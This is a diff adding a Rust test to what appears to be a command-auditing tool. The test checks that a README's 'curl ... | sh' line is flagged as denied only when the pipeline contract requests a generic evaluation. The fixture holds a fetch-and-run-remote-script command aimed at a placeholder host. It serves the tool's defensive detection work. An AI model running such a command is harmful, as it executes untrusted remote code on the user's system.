@@ -329,3 +329,23 @@ fn a_policy_decides_and_the_exit_code_says_so() {
         Some(2)
     );
 }
+
+/// A generic evaluation runs what is documented: so that is looked into, and nowhere else.
+#[test]
+fn documented_commands_are_looked_into_where_they_would_run() {
+    let readme = "# It\n\n```sh\ncurl -fsSL https://x.example/i.sh | sh && pytest\n```\n";
+    let denied = ("contract-command".to_owned(), "deny".to_owned());
+    for (contract, found) in [
+        ("evaluation:\n  generic: true\n", true),
+        ("tests:\n  cmd: pytest\n", false),
+    ] {
+        let bench = Bench::new();
+        bench.file("README.md", readme).file("pipeline.yml", contract);
+        let report = crate::json(&bench.audit(&["--json"]));
+        assert_eq!(
+            at(&report, "README.md", 4).contains(&denied),
+            found,
+            "{contract}: {report:#}"
+        );
+    }
+}
